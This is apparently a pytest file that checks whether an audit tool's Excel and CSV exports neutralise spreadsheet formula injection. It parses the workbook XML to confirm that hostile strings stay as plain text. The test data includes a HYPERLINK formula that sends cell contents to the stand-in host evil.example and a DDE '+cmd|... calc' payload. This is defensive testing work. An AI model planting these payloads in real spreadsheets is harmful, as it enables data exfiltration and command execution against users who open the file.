"""Workbooks hold hostile text as it is, in string cells (#period1, new-user review defect 12).

A string cell is never evaluated by Excel or LibreOffice, so the quote CSV needs ('=HYPERLINK(...) -> '=...)
was only shown to people ("'-2+3"). Oracle: the workbook's own XML (the sheet's cell type t="s" or
inlineStr, no <f> formula element) and its shared strings, read with zipfile, not with the writer under test.
The CSV keeps its quote.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import polars as pl
import pytest

from audit_metrics import export
from audit_metrics.cli import main

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE = [LINK, "-2+3", "+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1"]


def _cells(data: bytes | Path) -> dict[str, dict[str, tuple[str | None, str | None, bool]]]:
    """{sheet name: {cell ref: (type attribute, text, has a formula)}}, from the package's XML."""
    with zipfile.ZipFile(io.BytesIO(data) if isinstance(data, bytes) else data) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
                shared.append("".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")))
        book = ET.fromstring(z.read("xl/workbook.xml"))
        names = [s.get("name") for s in book.find("m:sheets", NS)]
        out: dict[str, dict[str, tuple[str | None, str | None, bool]]] = {}
        for k, name in enumerate(names, start=1):
            sheet = ET.fromstring(z.read(f"xl/worksheets/sheet{k}.xml"))
            cells = {}
            for c in sheet.iter(f"{{{NS['m']}}}c"):
                kind, v = c.get("t"), c.find("m:v", NS)
                text = shared[int(v.text)] if kind == "s" and v is not None else (
                    "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t")) if kind == "inlineStr"
                    else (v.text if v is not None else None))
                cells[c.get("r")] = (kind, text, c.find("m:f", NS) is not None)
            out[name] = cells
    return out


def _check(data: bytes | Path, wanted: list[str]) -> None:
    """Every hostile text is a string cell reading exactly as given; no cell anywhere is a formula."""
    sheets = _cells(data)
    every = [cell for cells in sheets.values() for cell in cells.values()]
    assert not [c for c in every if c[2]], "a formula cell"
    texts = {text: kind for kind, text, _ in every if kind in {"s", "inlineStr", "str"}}
    for text in wanted:
        assert text in texts, (text, sorted(t for t in texts if t and t[:1] in "'=+-@"))
        assert texts[text] in {"s", "inlineStr"}, (text, texts[text])  # not "str" (a formula's result)
        assert "'" + text not in texts  # no visible quote


def test_results_sheet_and_readme_hold_the_text_as_it_is() -> None:
    frame = pl.DataFrame({"unit_name": HOSTILE, "z": [-1.5, 2.0, 0.0, 1.0, -2.0]})
    data = export.to_excel_bytes(frame, {"alliance": LINK, "note": "-2+3"})
    _check(data, HOSTILE)
    readme = _cells(data)[export.README_SHEET]
    assert ("s", LINK, False) in readme.values()
    z = [cell for ref, cell in _cells(data)["results"].items() if re.fullmatch(r"B[2-9]", ref)]
    assert [c[0] for c in z] == [None] * 5 and z[0][1] == "-1.5"  # numbers stay numbers (no t attribute)
    # the CSV keeps its quote
    rows = list(csv.reader(io.StringIO(export.to_csv_bytes(frame).decode(), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


@pytest.fixture
def hostile_project(project_copy: Path) -> Path:
    trusts = project_copy / "sample_data" / "trusts.csv"
    units = pl.read_csv(trusts, infer_schema=False)
    names = units["trust_name"].to_list()
    names[: len(HOSTILE)] = HOSTILE
    groups = units["cancer_alliance"].to_list()
    units.with_columns(pl.Series("trust_name", names),
                       pl.Series("cancer_alliance", [LINK if g == groups[0] else g for g in groups])).write_csv(trusts)
    return project_copy


def test_every_cli_workbook(hostile_project: Path, tmp_path: Path) -> None:
    """run --out / --limits-out / --accounting-out and outliers --out: string cells, as they are."""
    catalogue = str(hostile_project / "indicators.yaml")
    out, limits, acc = tmp_path / "r.xlsx", tmp_path / "l.xlsx", tmp_path / "a.xlsx"
    assert main(["run", catalogue, "--indicator", "lung_cns", "--out", str(out), "--limits-out", str(limits),
                 "--accounting-out", str(acc), "--quiet"]) == 0
    _check(out, HOSTILE)
    for other in (limits, acc):
        _check(other, [])
    flagged = tmp_path / "o.xlsx"
    assert main(["outliers", catalogue, "--alliance", LINK, "--out", str(flagged), "--quiet"]) == 0
    _check(flagged, [LINK])  # the alliance: in the read-me's filters and each row's alliance column
    readme = _cells(flagged)[export.README_SHEET]
    assert sum(1 for kind, text, _ in readme.values() if text == LINK and kind == "s") >= 1
    csv_out = tmp_path / "o.csv"
    assert main(["outliers", catalogue, "--alliance", LINK, "--out", str(csv_out), "--quiet"]) == 0
    assert "'" + LINK in {c for row in csv.reader(io.StringIO(csv_out.read_text(), newline="")) for c in row}
